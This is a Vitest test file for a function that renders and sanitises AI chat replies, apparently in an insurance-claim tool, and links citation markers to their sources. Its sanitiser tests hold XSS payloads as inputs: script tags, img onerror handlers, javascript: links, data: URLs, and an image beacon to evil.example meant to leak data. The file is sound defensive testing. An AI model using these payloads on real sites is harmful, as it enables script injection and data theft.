// @vitest-environment jsdom
// jsdom, not happy-dom: DOMPurify needs a spec-faithful DOM (happy-dom's NodeIterator loses its
// place when a node is removed, so everything after the first removed tag would go unchecked).
import { describe, expect, it } from 'vitest';
import { renderReply, type DescribeSource } from './render-reply';

const sources: Record<string, string> = {
  'doc:d3': 'Police report',
  'msg:c5': 'Email of 12 Mar 2026',
  'event:e1': 'Letter of claim received',
  'party:p2': 'Dana Hughes',
};
const describeSource: DescribeSource = (kind, id) => sources[`${kind}:${id}`];

function render(markdown: string): HTMLElement {
  const host = document.createElement('div');
  host.innerHTML = renderReply(markdown, describeSource);
  return host;
}

describe('renderReply: Markdown', () => {
  it('renders headings, lists, emphasis, tables and code', () => {
    const host = render(
      '## Position\n\n- **Cover**: in force\n- *Excess*: £250\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`x`',
    );
    expect(host.querySelector('h2')?.textContent).toBe('Position');
    expect(host.querySelectorAll('li')).toHaveLength(2);
    expect(host.querySelector('strong')?.textContent).toBe('Cover');
    expect(host.querySelector('em')?.textContent).toBe('Excess');
    expect(host.querySelectorAll('td')).toHaveLength(2);
    expect(host.querySelector('code')?.textContent).toBe('x');
  });

  it('opens safe links in a new tab without handing over the opener', () => {
    const link = render('[FOS guidance](https://www.financial-ombudsman.org.uk/)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://www.financial-ombudsman.org.uk/');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toContain('noopener');
  });
});

describe('renderReply: sanitising model output', () => {
  it('removes script tags and their content', () => {
    const html = renderReply('Hello <script>window.pwned = true</script> there', describeSource);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain('pwned');
    expect(html).toContain('Hello');
  });

  it('neutralises <img onerror> (no image, no handler)', () => {
    const host = render('Look: <img src="x" onerror="alert(1)"> and ![chart](https://evil.example/leak?d=1)');
    expect(host.querySelector('img')).toBeNull();
    expect(host.innerHTML).not.toMatch(/onerror|alert\(1\)|evil\.example/);
  });

  it('strips event handler attributes from allowed elements', () => {
    const host = render('<p onclick="alert(1)" onmouseover="alert(2)">text</p>');
    expect(host.querySelector('p')?.textContent).toBe('text');
    expect(host.innerHTML).not.toMatch(/onclick|onmouseover|alert/);
  });

  it('neutralises javascript: links in Markdown and in raw HTML', () => {
    const host = render(
      '[click](javascript:alert(1)) and <a href="javascript:alert(2)">raw</a> and <a href="JaVaScRiPt:alert(3)">mixed</a>',
    );
    for (const link of host.querySelectorAll('a')) {
      expect(link.getAttribute('href') ?? '').not.toMatch(/javascript/i);
    }
    expect(host.innerHTML).not.toMatch(/javascript:/i);
  });

  it('drops iframes, forms, styles and data: URLs', () => {
    const host = render(
      '<iframe src="https://evil.example"></iframe><form><input value="x"></form><style>body{display:none}</style>\n\n[d](data:text/html;base64,PHNjcmlwdD4=)',
    );
    expect(host.querySelector('iframe, form, input, style')).toBeNull();
    expect(host.innerHTML).not.toMatch(/data:text/);
  });

  it('does not let model HTML forge a citation button', () => {
    const host = render('<button data-cite="doc:d3" onclick="alert(1)">fake</button><span data-cite="doc:d3">x</span>');
    expect(host.querySelector('[data-cite]')).toBeNull();
  });
});

describe('renderReply: citations', () => {
  it('turns each marker kind into a button naming its source', () => {
    const host = render('The police report [doc:d3] agrees with the email [msg:c5], the letter [event:e1] and [party:p2].');
    const buttons = [...host.querySelectorAll<HTMLButtonElement>('button[data-cite]')];
    expect(buttons.map((b) => b.dataset.cite)).toEqual(['doc:d3', 'msg:c5', 'event:e1', 'party:p2']);
    expect(buttons.map((b) => b.textContent)).toEqual([
      'Police report',
      'Email of 12 Mar 2026',
      'Letter of claim received',
      'Dana Hughes',
    ]);
    expect(buttons.every((b) => b.type === 'button')).toBe(true);
    expect(host.textContent).toContain('The police report ');
  });

  it('links markers inside emphasis and list items', () => {
    const host = render('- **Confirmed [doc:d3]**\n- see [msg:c5]');
    expect(host.querySelectorAll('li button[data-cite]')).toHaveLength(2);
  });

  it('links adjacent markers separately', () => {
    const host = render('Both say so [doc:d3][msg:c5].');
    expect([...host.querySelectorAll<HTMLElement>('[data-cite]')].map((b) => b.dataset.cite)).toEqual([
      'doc:d3',
      'msg:c5',
    ]);
  });

  it('leaves markers inside code spans and code blocks alone', () => {
    const host = render('Write `[doc:d3]` to cite.\n\n```\n[msg:c5]\n```');
    expect(host.querySelector('[data-cite]')).toBeNull();
    expect(host.querySelector('code')?.textContent).toBe('[doc:d3]');
    expect(host.querySelector('pre')?.textContent).toContain('[msg:c5]');
  });

  it('shows a marker for a source the claim lacks as plain text, not a link', () => {
    const host = render('See [doc:nope].');
    expect(host.querySelector('[data-cite]')).toBeNull();
    expect(host.querySelector('.cite-missing')?.textContent).toBe('[doc:nope]');
  });

  it('ignores bracketed text that is not a marker', () => {
    const host = render('[note: check] and [file:x] and [doc:] stay as written');
    expect(host.querySelector('.cite')).toBeNull();
    expect(host.textContent?.trim()).toBe('[note: check] and [file:x] and [doc:] stay as written');
  });

  it('keeps a citation label as text even when the source title holds markup', () => {
    const host = document.createElement('div');
    host.innerHTML = renderReply('[doc:d9]', () => '<img src=x onerror=alert(1)>');
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('button')?.textContent).toBe('<img src=x onerror=alert(1)>');
  });
});
